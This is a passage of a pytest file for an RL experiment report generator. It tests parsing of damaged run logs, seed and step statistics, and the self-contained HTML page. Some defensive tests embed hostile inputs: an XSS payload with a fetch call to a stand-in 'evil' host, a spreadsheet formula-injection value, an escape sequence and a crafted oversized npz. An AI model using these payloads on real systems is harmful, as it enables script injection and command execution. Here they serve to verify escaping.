"""Run directories, whole and damaged, to a page that holds together whatever the runs are called."""

import base64
import gzip
import html
import json
import os
import re
import shutil
import subprocess
import time
import tomllib
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import tomli_w

from maxinforl import cli
from maxinforl.errors import BadInput
from maxinforl.experiments import figures, log_files
from maxinforl.experiments import report as rp
from maxinforl.experiments.charts import coverage, phase
from maxinforl.experiments.formatting import format_number
from maxinforl.experiments.grouping import label_runs
from maxinforl.experiments.log_files import Series
from maxinforl.experiments.read_runs import RunLogs, find_runs, read_run_logs
from maxinforl.experiments.summary import summarise

HEADER = "step,env_step,seed,mean_return,std_return,min_return,max_return,mean_length,episodes"
HOSTILE = (
    """</script ></script><script>alert("1")</script><img src=x onerror='fetch("http://evil")'>@@data@@ $x_{ &amp;"""
)


def write_run(folder, algo="sac", env="Pendulum-v1", seed=0, level=100.0, upto=10, states=False, **agent):
    """A run of ten evaluations, 100 agent steps apart at action repeat 2."""
    folder = Path(folder)
    folder.mkdir(parents=True)
    config = {"algo": algo, "env": env, "seed": seed, "steps": 1000, "command": f"maxinforl train {algo} --seed {seed}"}
    config |= {"versions": {"maxinforl": "0.1.0"}, "agent": {"lr": 0.1, **agent}}
    (folder / "config.toml").write_text(tomli_w.dumps(config))
    steps = 100 * np.arange(1, upto + 1)
    value = level * steps / 1000 + seed
    names = {"rollout/ep_rew_mean": -1.0, "explore/alpha1": 0.5, "explore/alpha2": 0.2, "explore/info_gain": 3.0}
    names |= {"explore/info_gain_target": 2.5, "explore/intrinsic_weight": 0.1, "time/fps": 100.0}
    rows = [{"step": int(s), "env_step": int(2 * s), **names} for s in steps]
    (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    rows = [f"{s},{2 * s},{seed},{v},1,{v - 1},{v + 1},200,5" for s, v in zip(steps, value)]
    (folder / "eval.csv").write_text("\n".join([HEADER, *rows]) + "\n")
    if states:
        angle = np.linspace(0, 3 * seed + 3, 50)
        np.savez(folder / "states.npz", step=np.arange(50) * 20, obs=np.c_[np.cos(angle), np.sin(angle), angle])
    return folder


@pytest.fixture
def suite(tmp_path):
    """Two algorithms on two tasks with three seeds, and a video."""
    for algo, level in (("sac", 50.0), ("maxinfo-sac", 100.0)):
        for env in ("Pendulum-v1", "dmc/hopper-hop"):
            for seed in range(3):
                folder = tmp_path / "runs" / algo / env.replace("/", "-") / f"seed-{seed}"
                write_run(folder, algo, env, seed, level, states=env == "Pendulum-v1")
    (folder / "videos").mkdir()
    (folder / "videos" / "last.mp4").write_bytes(b"not really a film")
    return tmp_path / "runs"


# --- reading --------------------------------------------------------------------------------------------------


def test_finds_every_run_once_and_in_order(suite):
    runs = find_runs([suite, suite / "sac"])
    assert len(runs) == 12
    assert [run.seed for run in runs[:3]] == [0, 1, 2]
    run = next(run for run in runs if run.algo == "sac" and run.env == "dmc/hopper-hop" and run.seed == 2)
    np.testing.assert_allclose(run.returns.env_step, 200 * np.arange(1, 11))
    np.testing.assert_allclose(run.returns.value, 5.0 * np.arange(1, 11) + 2)
    assert run.metrics["explore/alpha2"].value[0] == 0.2
    assert run.versions == {"maxinforl": "0.1.0"}


def test_only_the_metrics_asked_for_are_kept(suite):
    run = find_runs([suite], names={"explore/alpha1"})[0]
    assert set(run.metrics) == {"explore/alpha1"} and "mean_return" in run.evaluation


def test_seeds_may_share_one_configuration(tmp_path):
    write_run(tmp_path / "multi" / "seed-0")
    write_run(tmp_path / "multi" / "seed-10")
    (tmp_path / "multi" / "seed-0" / "config.toml").rename(tmp_path / "multi" / "config.toml")
    (tmp_path / "multi" / "seed-10" / "config.toml").unlink()
    assert [run.seed for run in find_runs([tmp_path])] == [0, 10]


def test_training_returns_stand_in_for_missing_evaluations(tmp_path):
    folder = write_run(tmp_path / "run")
    (folder / "eval.csv").unlink()
    (run,) = find_runs([folder])
    assert (run.returns.value == -1).all()
    assert ",training episodes" in rp.raw_csv([run])


def test_a_step_logged_twice_counts_as_it_was_last(tmp_path):
    folder = write_run(tmp_path / "run", upto=3)
    with (folder / "eval.csv").open("a") as file:
        file.write("200,400,0,7,0,7,7,200,5\n300,600,0,8,0,8,8,200,5\n")
    (run,) = find_runs([folder])
    assert run.returns.step.tolist() == [100, 200, 300]
    assert run.returns.value.tolist() == [10, 7, 8]


DAMAGE = {
    "config.toml": [
        ("algo = ", "not valid TOML"),
        ('algo = "sac"', "has no env"),
        ('algo = 1\nenv = "e"', "has no algo"),
        ('algo = "sac"\nenv = "e"\nseed = true\nsteps = 1', "has no seed"),
        (b"\xff\xfe\x00", "not UTF-8"),
    ],
    "metrics.jsonl": [
        ('{"step": 1, "a": 1}\n{"step": 2, "a"', "left out a line that cannot be read (line 2"),
        ('{"a": 1}\n[]\n{"step": "x"}\n{"step": 1e99}\n', "left out 4 lines"),
        ('{"step": NaN}\n', "left out a line"),
        ("[" * 100_000, "left out a line"),
        (b"\x00\xff" * 1000, "left out a line"),
    ],
    "eval.csv": [
        ("a,b\n1,2\n", "has no columns step and mean_return"),
        ("step,step,mean_return\n1,1,2\n", "has no columns"),
        (f"{HEADER}\n1,2,3\n", "it does not hold 9 numbers"),
        (f"{HEADER}\n1,2,0,nan,1,1,1,1,1\n", "not finite"),
        (f"{HEADER}\n1e99,2,0,1,1,1,1,1,1\n", "steps in range"),
        ("step,mean_return\n1,2\nx,y\n", "left out a line that cannot be read (line 3"),
    ],
}


@pytest.mark.parametrize(("name", "content", "sentence"), [(n, c, s) for n, cs in DAMAGE.items() for c, s in cs])
def test_damage_costs_one_sentence(tmp_path, name, content, sentence):
    write_run(tmp_path / "good")
    bad = write_run(tmp_path / "bad", seed=1)
    (bad / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    problems = []
    runs = find_runs([tmp_path], problems)
    assert {run.path.name for run in runs} == ({"good"} if name == "config.toml" else {"good", "bad"})
    assert len(problems) == 1 and sentence in problems[0] and "\n" not in problems[0]
    assert rp.report([tmp_path], tmp_path / "out.html").exists()


def test_what_is_not_a_number_is_no_metric(tmp_path):
    folder = write_run(tmp_path / "run")
    rows = [{"step": 1, "a": 1.5, "b": "x", "c": None}, {"step": 2, "a": "y", "b": "z", "c": 2, "d": 10**400}]
    (folder / "metrics.jsonl").write_text("\n".join(map(json.dumps, rows)))
    (run,) = find_runs([folder])
    assert {name: s.value.tolist() for name, s in run.metrics.items()} == {"a": [1.5], "c": [2.0]}


def test_empty_files_are_runs_without_data(tmp_path):
    folder = write_run(tmp_path / "run")
    (folder / "metrics.jsonl").write_text("")
    (folder / "eval.csv").write_text("")
    problems = []
    (run,) = find_runs([folder], problems)
    assert run.returns is None and problems == []
    assert rp.report([folder], tmp_path / "out.html").exists()


def test_links_pipes_and_giants_are_refused(tmp_path, monkeypatch):
    secret = tmp_path / "secret.csv"
    secret.write_text(f"{HEADER}\n1,2,0,42,1,1,1,1,1\n")
    linked, piped, giant = (write_run(tmp_path / "runs" / name) for name in ("linked", "piped", "giant"))
    (linked / "eval.csv").unlink()
    (linked / "eval.csv").symlink_to(secret)
    (piped / "metrics.jsonl").unlink()
    os.mkfifo(piped / "metrics.jsonl")
    monkeypatch.setattr(log_files, "TEXT_LIMIT", 5000)
    (giant / "metrics.jsonl").write_text("x" * 5001)
    problems = []
    assert len(find_runs([tmp_path / "runs"], problems)) == 3
    assert sorted(re.search(r"symbolic link|not a file|too large", p).group() for p in problems) == [
        "not a file", "symbolic link", "too large",
    ]  # fmt: skip


def test_states_are_never_unpickled_nor_believed(tmp_path):
    folder = write_run(tmp_path / "run", states=True)
    (run,) = find_runs([folder])
    step, obs = run.states()
    assert step.shape == (50,) and obs.shape == (50, 3)
    bad = {}
    np.savez(tmp_path / "pickle.npz", step=np.arange(2), obs=np.array([{}, {}], object))
    np.savez(tmp_path / "shape.npz", step=np.arange(2), obs=np.zeros((3, 2)))
    np.savez(tmp_path / "name.npz", step=np.arange(2))
    with zipfile.ZipFile(tmp_path / "claim.npz", "w") as archive:
        head = b"{'descr': '<f8', 'fortran_order': False, 'shape': (999999999999,), }"
        member = b"\x93NUMPY\x01\x00" + (len(head) + 1).to_bytes(2, "little") + head + b"\n"
        for name in ("step.npy", "obs.npy"):
            archive.writestr(name, member)
    (tmp_path / "garbage.npz").write_bytes(b"PK\x03\x04garbage")
    for name in ("pickle", "shape", "name", "claim", "garbage"):
        shutil.copy(tmp_path / f"{name}.npz", folder / "states.npz")
        with pytest.raises(BadInput) as raised:
            run.states()
        bad[name] = str(raised.value)
        assert str(folder / "states.npz") in bad[name]
    assert "claims 7999999999992 bytes" in bad["claim"]
    assert rp.report([folder], tmp_path / "out.html").exists()


def test_nothing_to_report_is_said(tmp_path):
    with pytest.raises(BadInput, match="no runs to report"):
        rp.report([tmp_path], tmp_path / "out.html")
    with pytest.raises(BadInput, match="does not exist"):
        rp.report([tmp_path / "nowhere"], tmp_path / "out.html")
    (write_run(tmp_path / "run") / "config.toml").write_text("x")
    with pytest.raises(BadInput, match=r"none of the runs can be read: .*config"):
        rp.report([tmp_path], tmp_path / "out.html")


# --- summary --------------------------------------------------------------------------------------------------


def test_missing_and_unfinished_runs_are_told_and_not_invented(suite):
    shutil.rmtree(suite / "sac" / "dmc-hopper-hop" / "seed-1")
    shutil.rmtree(suite / "sac" / "Pendulum-v1" / "seed-0")
    write_run(suite / "sac" / "Pendulum-v1" / "seed-0", "sac", upto=4)
    shutil.rmtree(suite / "sac" / "Pendulum-v1" / "seed-2")
    summary = summarise(find_runs([suite]))
    assert "sac on dmc/hopper-hop misses seed 1: its intervals are wider" in summary.problems
    assert "sac on Pendulum-v1: 1 run stopped before 2,000 steps, without a final score" in summary.problems
    rows = {row[0]: row for table in summary.tables if table.title == "Pendulum-v1" for row in table.rows}
    assert rows["sac"][1] == "1 of 2" and "one seed" in rows["sac"][2]
    assert rows["maxinfo-sac"][1] == "3 of 3"


def cut_eval(folder, how):
    """Damage the eval.csv of a finished run."""
    text = (folder / "eval.csv").read_text()
    torn, short = text[:-12], "\n".join(text.split("\n")[:-3]) + "\n"
    (folder / "eval.csv").write_text(torn if how == "torn" else short)
    if how == "only checkpoints tell":
        (folder / "metrics.jsonl").unlink()
        (folder / "checkpoints" / "step-000001000").mkdir(parents=True)


@pytest.mark.parametrize("how", ["torn", "short", "only checkpoints tell"])
def test_a_finished_run_whose_evaluations_were_cut_did_not_stop(tmp_path, how):
    for seed in range(3):
        write_run(tmp_path / f"{seed}", seed=seed)
    cut_eval(tmp_path / "1", how)
    problems = []
    runs = find_runs([tmp_path], problems)
    summary = summarise(runs, problems)
    assert len(problems) == 1 and str(tmp_path / "1" / "eval.csv") in problems[0] and problems[0].kind == "damaged"
    assert ("line 11" if how == "torn" else "last evaluation is at step 800, but the run reached 1000") in problems[0]
    why = "1 run finished, but eval.csv is damaged or incomplete and ends before 2,000 steps, without a final score"
    assert summary.problems[1:] == [f"sac on Pendulum-v1: {why}"]
    assert runs[1].returns.step[-1] == (900 if how == "torn" else 800)  # what can be read is used
    assert summary.tables[-1].rows[0][1] == "2 of 3"


def test_evaluations_that_were_never_made_are_not_missing(tmp_path):
    write_run(tmp_path / "whole")
    stopped = write_run(tmp_path / "stopped", seed=1, upto=4)
    write_real(off := tmp_path / "off", seed=2, eval_episodes=0)  # switched off when it was resumed
    for folder in (stopped, off):
        rows = (folder / "eval.csv").read_text().split("\n")[:4]
        (folder / "eval.csv").write_text("\n".join(rows) + "\n")
    problems = []
    assert not any(run.cut for run in find_runs([tmp_path], problems)) and not problems


def test_a_run_that_was_asked_for_less_did_not_stop(tmp_path):
    for seed in range(2):
        write_run(tmp_path / f"{seed}", seed=seed)
    short = write_run(tmp_path / "2", seed=2, upto=5)
    (short / "config.toml").write_text((short / "config.toml").read_text().replace("steps = 1000", "steps = 500"))
    (said,) = summarise(find_runs([tmp_path])).problems
    assert said == "sac on Pendulum-v1: 1 run requested fewer than 2,000 steps, without a final score"
    assert said.kind == "other lengths"


def test_one_seed_has_no_interval_in_tables_and_figures(tmp_path):
    for algo in ("sac", "oac"):
        write_run(tmp_path / "runs" / algo, algo, states=True)
    write_run(tmp_path / "runs" / "again", "sac", seed=1, upto=4)
    summary = summarise(find_runs([tmp_path / "runs"]))
    assert "oac on Pendulum-v1 misses seed 1: one seed has no intervals" in summary.problems
    every, task = summary.tables
    assert [row[2:] for row in every.rows] == [["0.944 [–]", "0.500 [–]"], ["0.944 [–]", "–"]]
    assert task.rows[0][2:] == ["95.0 (one seed)", "95.0 [–]", "55.0 (one seed)", "1,200 [–]", "1.00 [–]"]
    assert all("The interval of a single seed is not defined (–)" in table.note for table in summary.tables)
    lines = [(chart.tab, line) for chart in summary.charts for line in chart.lines if line.low is not None]
    assert {tab for tab, _ in lines} == {"curves", "profiles", "exploration", "states"}
    oac = [line for _, line in lines if summary.labels[line.label] == "oac"]
    assert oac and all(np.isnan([line.low, line.high]).all() and np.isfinite(line.y).any() for line in oac)
    sac = next(line for tab, line in lines if tab == "curves" and summary.labels[line.label] == "sac")
    assert np.isfinite(sac.low).tolist() == [True] * 4 + [False] * 6  # a band as far as there are two
    assert rp.export_figures([tmp_path / "runs"], tmp_path / "figures", "png")


def test_only_cells_with_runs_can_miss_seeds(tmp_path):
    """Runs of two suites are no product of all their algorithms and tasks."""
    for seed in range(2):
        write_run(tmp_path / "one" / f"a{seed}", "sac", "Pendulum-v1", seed)
        write_run(tmp_path / "two" / f"b{seed}", "oac", "dmc/hopper-hop", seed)
    write_run(tmp_path / "two" / "c", "maxinfo-oac", "dmc/hopper-hop", 1)
    for given in ([tmp_path], [tmp_path / "one", tmp_path / "two"]):
        said = summarise(find_runs(given)).problems
        assert [s for s in said if s.kind == "missing"] == [
            "maxinfo-oac on dmc/hopper-hop misses seed 0: one seed has no intervals"
        ]
        assert not any("sac on dmc" in s or "oac on Pendulum" in s or "was not run" in s for s in said)


def test_a_method_that_was_not_run_somewhere_leaves_that_task_out_of_the_aggregate(suite):
    shutil.rmtree(suite / "sac" / "dmc-hopper-hop")
    summary = summarise(find_runs([suite]))
    assert not summary.problems
    assert summary.tables[0].note.startswith("Over the 1 of 2 tasks that every algorithm finished")


def test_final_scores_by_hand(suite):
    tables = {table.title: table for table in summarise(find_runs([suite])).tables}
    (maxinfo, sac) = tables["dmc/hopper-hop"].rows
    assert maxinfo[:3] == ["maxinfo-sac", "3 of 3", "96.0 ± 0.577"]  # (90 + 100) / 2 + seed
    assert sac[2] == "48.5 ± 0.577"
    assert maxinfo[4].startswith("56.0 ±")  # (10 + 100) / 2 + 1
    assert "1 is 1000" in tables["All tasks"].note and "runs compared" in tables["All tasks"].note
    assert tables["All tasks"].rows[0][3].startswith("1")  # every run beats every run of SAC


def test_settings_that_differ_are_part_of_the_name(tmp_path):
    for period in (1, 32):
        for seed in range(2):
            write_run(tmp_path / f"{period}-{seed}", "eps", seed=seed, period=period)
    write_run(tmp_path / "other", "sac")
    assert set(label_runs(find_runs([tmp_path]))) == {"eps (period=1)", "eps (period=32)", "sac"}


def test_copies_of_a_seed_count_once(tmp_path):
    write_run(tmp_path / "first", upto=4)
    write_run(tmp_path / "again")
    summary = summarise(find_runs([tmp_path]))
    assert any("duplicate seeds" in problem for problem in summary.problems)
    assert summary.tables[-1].rows[0][1] == "1 of 1"


def test_coverage_counts_cells_once():
    points = np.array([[0.0, 0.0], [0.01, 0.01], [1.0, 1.0], [0.0, 0.0]])
    np.testing.assert_allclose(coverage(points, np.zeros(2), np.ones(2), cells=2), [1 / 4, 1 / 4, 1 / 2, 1 / 2])


def test_phase_of_a_pendulum_is_its_angle():
    points, names = phase(np.array([[0.0, 1.0, 3.0], [-1.0, 0.0, 4.0]]))
    np.testing.assert_allclose(points, [[np.pi / 2, 3], [np.pi, 4]])
    assert names[0] == "angle"
    assert phase(np.array([[1.0, 2.0, 3.0, 4.0]]))[0].tolist() == [[1, 2]]
    assert phase(np.array([[5.0]]))[0].tolist() == [[5, 5]]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (0.0, "0"),
        (1234.5, "1,234"),
        (-0.01234, "−0.0123"),
        (np.inf, "∞"),
        (np.nan, "–"),
        (2.5e9, "2.50e+09"),
        (51, "51.0"),
    ],
)
def test_numbers_are_readable(value, text):
    assert format_number(value) == text


def test_a_thousand_runs_are_summarised_quickly():
    steps = np.arange(1.0, 101.0)
    series = lambda a, s: Series(steps, steps, np.random.default_rng([a, s]).normal(a, 1, 100))
    runs = [
        RunLogs(Path(), f"algo{a}", f"dmc/task{e}", s, 100, "", {}, {}, evaluation={"mean_return": series(a, s)})
        for a in range(10) for e in range(10) for s in range(10)
    ]  # fmt: skip
    start = time.process_time()
    page = "".join(rp.render(summarise(runs)))
    assert time.process_time() - start < 15
    assert len(page) < 20e6


# --- the page -------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Checks that tags match, and keeps what the tests look at."""

    VOID = frozenset({"meta", "link", "br", "img", "input"})

    def __init__(self, text):
        super().__init__()
        self.stack, self.tags, self.text, self.raw = [], [], [], {}
        self.feed(text)
        assert self.stack == []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        assert self.stack.pop() == tag

    def handle_data(self, data):
        self.text.append(data)
        if self.stack[-1:] == ["script"]:
            self.raw[self.tags[-1][1].get("id", "code")] = data

    def having(self, **wanted):
        return [attrs for _, attrs in self.tags if all(attrs.get(k) == v for k, v in wanted.items())]


def test_the_page_is_whole_and_needs_nothing_else(suite, tmp_path):
    path = rp.report([suite], tmp_path / "out")
    assert path == tmp_path / "out" / "report.html"
    text = path.read_text()
    page = Page(text)
    tabs = [attrs["data-tab"] for attrs in page.having(role="tab")]
    assert tabs == ["overview", "curves", "profiles", "exploration", "states", "videos", "data"]
    assert len(page.having(role="tabpanel")) == len(tabs)
    data = json.loads(page.raw["data"])
    assert data["labels"] == ["maxinfo-sac", "sac"]
    assert {chart["tab"] for chart in data["charts"]} == {"curves", "profiles", "exploration", "states"}
    curve = next(c for c in data["charts"] if c["tab"] == "curves" and c["title"] == "dmc/hopper-hop")
    assert curve["lines"][0]["y"] == " ".join(str(10 * n + 1) for n in range(1, 11))
    shown = {chart["ylabel"] for chart in data["charts"] if chart["tab"] == "exploration"}
    assert [any(word in label for label in shown) for word in ("α1", "α2", "1/λ", "dashed: target")] == [True] * 4
    links = [v for _, attrs in page.tags for k, v in attrs.items() if k in ("src", "href", "action", "srcset")]
    assert len(links) == 2 and all(link.startswith("data:") for link in links)
    assert set(re.findall(r"https?://[\w./]+", text)) == {"http://www.w3.org/2000/svg"}
    assert "prefers-color-scheme: dark" in text and 'name="viewport"' in text
    assert "maxinforl train sac --seed N" in text and "0.1.0" in text


def test_the_raw_data_can_be_downloaded(suite, tmp_path, monkeypatch):
    for limit, decode in ((1 << 20, bytes), (10, gzip.decompress)):
        monkeypatch.setattr(rp, "PLAIN_CSV_LIMIT", limit)
        page = Page(rp.report([suite], tmp_path / "r.html").read_text())
        (link,) = page.having(**{"class": "button"})
        rows = decode(base64.b64decode(link["href"].partition("base64,")[2])).decode().splitlines()
        assert rows[0] == "algorithm,env,seed,step,env_step,return,source"
        assert len(rows) == 1 + 12 * 10 and "sac,dmc/hopper-hop,2,1000,2000,52,evaluation" in rows


def test_cells_do_not_compute_in_a_spreadsheet(tmp_path):
    write_run(tmp_path / "run", algo='=cmd|"x",100%')
    assert '"\'=cmd|""x"",100%",Pendulum-v1,0,100,200,10,evaluation' in rp.raw_csv(find_runs([tmp_path]))


def test_hostile_names_stay_text(tmp_path):
    for seed in range(2):
        write_run(tmp_path / "runs" / str(seed), algo=HOSTILE, env=HOSTILE + "2", seed=seed, states=True)
        (tmp_path / "runs" / str(seed) / "eval.csv").open("a").write("<img src=y>\n")
    video = tmp_path / "runs" / "0" / "videos"
    video.mkdir()
    (video / "<img src=z>.mp4").write_bytes(b"film")
    page = Page(rp.report([tmp_path / "runs"], tmp_path / "out.html").read_text())
    assert [tag for tag, _ in page.tags].count("script") == 2 and "img" not in [tag for tag, _ in page.tags]
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)]
    assert json.loads(page.raw["data"])["labels"] == [HOSTILE]
    assert not set("<>&") & set(page.raw["data"])
    assert any(HOSTILE in text for text in page.text)
    assert rp.export_figures([tmp_path / "runs"], tmp_path / "figures", "png")


def test_large_videos_are_named_not_embedded(suite, tmp_path, monkeypatch):
    monkeypatch.setattr(rp, "VIDEO_LIMIT", 5)
    text = rp.report([suite], tmp_path / "r.html").read_text()
    assert "<video" not in text and "not embedded" in text and "last.mp4" in text


def write_real(folder, algo="sac", seed=0, upto=10, **settings):
    """A run with the configuration that training writes, settings and agent in tables of their own."""
    write_run(folder, algo, seed=seed, upto=upto)
    config = tomllib.loads((folder / "config.toml").read_text())
    config |= {
        "cores": seed,
        "settings": {"seed": seed, "env_arg": [], "action_cost": 0.0, "log_every": seed} | settings,
    }
    (folder / "config.toml").write_text(tomli_w.dumps(config))


def test_seeds_of_real_runs_are_one_label_and_tasks_are_told_apart(tmp_path):
    for seed in range(3):
        write_real(tmp_path / f"a{seed}", seed=seed)
        write_real(tmp_path / f"b{seed}", seed=seed, env_arg=[["time_limit_is_terminal", True]])
    summary = summarise(find_runs([tmp_path]))
    assert summary.labels == ["sac"]
    curves = {chart.title: chart for chart in summary.charts if chart.tab == "curves"}
    assert set(curves) == {"Pendulum-v1", "Pendulum-v1 (time_limit_is_terminal=True)"}
    assert {run.env for run in summary.runs} == set(curves) and not summary.problems
    write_real(tmp_path / "c", seed=0, action_cost=0.5)
    titles = {chart.title for chart in summarise(find_runs([tmp_path])).charts if chart.tab == "curves"}
    assert "Pendulum-v1 (action_cost=0.5)" in titles and "Pendulum-v1 (action_cost=0.0)" in titles


def test_a_run_that_stop_at_ended_is_finished_and_its_last_evaluation_is_carried_forward(tmp_path):
    for seed in range(3):
        write_real(tmp_path / f"{seed}", seed=seed, upto=4 if seed == 2 else 10, stop_at=42.0 if seed == 2 else 500.0)
    summary = summarise(find_runs([tmp_path]), threshold=60.0)
    (said,) = summary.problems
    assert said.kind == "ended early" and said == (
        "sac on Pendulum-v1: 1 run reached --stop-at and ended before 2,000 steps; "
        "the last evaluation is carried forward to there"
    )
    row = summary.tables[-1].rows[0]
    final, area = [95.0, 96.0, 42.0], [55.0, 56.0, np.trapezoid([12, 22, 32, *[42] * 7]) / 9]
    shown = [f"{format_number(np.mean(v))} ± {format_number(np.std(v, ddof=1) / 3**0.5)}" for v in (final, area)]
    assert row[1] == "3 of 3" and [row[2], row[4]] == shown
    assert row[5] == "1,200 [800, ∞]"  # whether it would have reached 60 is not known: it is censored where it ended
    curve = next(chart for chart in summary.charts if chart.tab == "curves").lines[0]
    assert curve.x[-1] == 2000 and curve.y[-1] == pytest.approx((100 + 101 + 42) / 3)


def test_runs_that_stop_at_ended_leave_the_others_their_length(tmp_path):
    write_real(tmp_path / "a", "sac", stop_at=500.0)
    write_real(tmp_path / "b", "oac", upto=4, stop_at=40.0)
    (said,) = summarise(find_runs([tmp_path])).problems
    assert said.kind == "ended early" and "before 2,000 steps" in said


def test_a_seed_whose_companion_has_not_reached_it_has_only_stopped(tmp_path):
    for seed in range(2):
        write_real(folder := tmp_path / f"seed-{seed}", seed=seed, upto=4, stop_at=41.0)
        table = tomllib.loads((folder / "config.toml").read_text()) | {"together": [0, 1]}
        (folder / "config.toml").write_text(tomli_w.dumps(table))
    write_real(tmp_path / "whole", seed=2)
    (said,) = summarise(find_runs([tmp_path])).problems
    assert said == "sac on Pendulum-v1: 2 runs stopped before 2,000 steps, without a final score"


def test_unlike_runs_are_compared_with_a_word(tmp_path):
    write_real(tmp_path / "a", "sac", learning_starts=0, eval_episodes=5)
    write_real(tmp_path / "b", "oac", learning_starts=500, eval_episodes=5)
    (tmp_path / "b" / "eval.csv").write_text(
        "\n".join([HEADER, "500,1000,0,3,1,2,4,200,5", "1500,3000,0,9,1,8,10,200,5"])
    )
    said = summarise(find_runs([tmp_path])).problems
    assert "Pendulum-v1: runs differ in learning_starts (0, 500), but are compared" in said
    assert "Pendulum-v1: 1 run continued after 2,000 steps; only the part before is compared" in said


def test_steps_to_a_threshold_were_measured(tmp_path):
    """A run that is evaluated rarely does not get there earlier because another is evaluated often."""
    write_run(tmp_path / "often", "sac", level=100.0)  # 10, 20, ..., 100 every 200 environment steps
    write_run(tmp_path / "rarely", "oac")
    rows = [f"{s},{2 * s},0,{v},1,{v},{v},200,5" for s, v in ((500, 0.0), (1000, 100.0))]
    (tmp_path / "rarely" / "eval.csv").write_text("\n".join([HEADER, *rows]) + "\n")
    (table,) = [t for t in summarise(find_runs([tmp_path]), threshold=60.0).tables if t.title == "Pendulum-v1"]
    row = {cells[0]: cells for cells in table.rows}
    assert table.header[5] == "median steps to 60.0 [95 %]" and "the threshold given" in table.note
    assert row["sac"][5] == "1,200 [–]" and row["oac"][5] == "2,000 [–]"
    assert "fewer than 5 seeds are too narrow" in table.note


def test_a_ratio_to_what_never_arrives_is_a_bound(tmp_path):
    for seed in range(3):
        write_run(tmp_path / f"a{seed}", "sac", seed=seed, level=1.0)
        write_run(tmp_path / f"b{seed}", "oac", seed=seed, level=100.0)
    ratio = lambda threshold: {
        cells[0]: cells[6] for cells in summarise(find_runs([tmp_path]), threshold=threshold).tables[-1].rows
    }
    assert ratio(50.0) == {"oac": "< 0.500", "sac": "1"}
    assert ratio(1000.0) == {"oac": "–", "sac": "1"}


def test_commands_can_be_run_again(tmp_path):
    one, together = read_run_logs(write_run(tmp_path / "a"), []), "maxinforl train --seeds 0-4"
    commands = ["maxinforl train --out x/seed-0", "maxinforl train --seed 1 --out x/seed-1", *[together] * 3]
    runs = [replace(one, command=command, seed=seed) for seed, command in enumerate(commands)]
    assert rp._commands(runs) == [
        "maxinforl train --seeds 0-4   # 3 runs, seeds 2, 3, 4",
        "maxinforl train --out x/seed-N --seed N   # 2 runs, seeds 0, 1",
    ]


def test_published_results_are_read_whole():
    results = Path(__file__).parent.parent / "results"
    for task, charts in (("mountain-car", 1), ("pendulum-hanging", 2)):
        summary = summarise(find_runs([results / task]))
        assert summary.labels == sorted(
            path.name for path in (results / task).iterdir() if path.is_dir() and not path.name.endswith("-terminal")
        )
        assert len([chart for chart in summary.charts if chart.tab == "curves"]) == charts
        known = ("misses seed", "continued after", "runs differ in")
        assert not [said for said in summary.problems if not any(words in said for words in known)]


@pytest.mark.slow
def test_the_command_exports_figures_beside_the_page(tmp_path, capsys):
    write_run(tmp_path / "run", states=True)
    page = tmp_path / "out" / "page.html"
    assert cli.main(["report", str(tmp_path / "run"), "--out", str(page), "--png", "--pdf"]) == 0
    names = {path.name for path in (tmp_path / "out" / "figures").iterdir()}
    assert names == {
        f"{tab}.{fmt}" for tab in ("curves", "profiles", "exploration", "states") for fmt in ("png", "pdf")
    }
    assert page.exists() and len(capsys.readouterr().out.splitlines()) == 9


def test_the_command_says_what_is_missing_or_left_out(suite, tmp_path, capsys):
    for name in ("foreign", "other"):
        (write_run(suite / name) / "config.toml").write_text("x = 1")
    cut_eval(suite / "sac" / "Pendulum-v1" / "seed-0", "torn")
    shutil.rmtree(suite / "sac" / "dmc-hopper-hop" / "seed-1")
    shutil.rmtree(suite / "maxinfo-sac" / "dmc-hopper-hop" / "seed-2")
    for algo, upto in (("oac\x1b[2J", 3), ("ddpg", 12)):
        for env in ("Pendulum-v1", "dmc/hopper-hop"):
            for seed in range(3):
                write_run(suite / f"{algo[:3]}{seed}{env[:3]}", algo, env, seed, upto=upto)
    assert cli.main(["report", str(suite), "--out", str(tmp_path / "r.html")]) == 0
    *said, page = capsys.readouterr().out.splitlines()
    assert page == f"wrote {tmp_path / 'r.html'}"
    lines = {line.partition(": ")[0]: line for line in said}
    kinds = ["damaged", "incomplete", "left out", "missing", "not compared", "other lengths", "stopped"]
    assert sorted(lines) == kinds and len(said) == len(kinds)
    assert "config.toml has no algo" in lines["left out"] and lines["left out"].endswith("(1 other likewise)")
    assert "eval.csv: left out a line" in lines["damaged"] and "likewise" not in lines["damaged"]
    assert "3 runs stopped before 2,000 steps" in lines["stopped"] and "\x1b" not in lines["stopped"]
    assert "3 runs continued after 2,000 steps" in lines["other lengths"]
    assert lines["missing"].endswith("misses seed 2: its intervals are wider (1 other likewise)")
    page = html.unescape((tmp_path / "r.html").read_text())
    assert all(lines[kind].partition(": ")[2].partition(" (1 other")[0] in page for kind in ("left out", "missing"))


def test_figures_for_a_paper(tmp_path):
    suite = write_run(tmp_path / "run", states=True)
    written = rp.export_figures([suite], tmp_path / "figures", "pdf")
    assert [path.name for path in written] == ["curves.pdf", "profiles.pdf", "exploration.pdf", "states.pdf"]
    assert all(path.read_bytes().startswith(b"%PDF") for path in written)
    with pytest.raises(BadInput, match="png, pdf or svg, not 'exe'"):
        rp.export_figures([suite], tmp_path, "exe")


def test_equal_data_give_equal_files(tmp_path):
    for fmt in ("png", "pdf", "svg"):
        paths = []
        for name in ("a", "b"):
            figure, (ax,) = figures.canvas()
            figures.learning_curve(ax, [1, 2, 3], [[1, 2, 3], [3, 2, np.nan]], "sac")
            figures.phase_plot(ax, np.eye(3))
            paths.append(figures.save(figure, tmp_path / f"{name}.{fmt}"))
        assert paths[0].read_bytes() == paths[1].read_bytes()


PROBE = """<script>
addEventListener("error", e => document.documentElement.dataset.error = e.message);
addEventListener("load", () => setTimeout(() => {
  const out = {}, click = s => document.querySelector(s).click(), rest = [];
  const visible = () => [...document.querySelectorAll("section")].filter(s => !s.hidden).map(s => s.dataset.tab);
  const paths = () => document.querySelectorAll("#panel-curves figure:first-child path").length;
  out.first = visible();
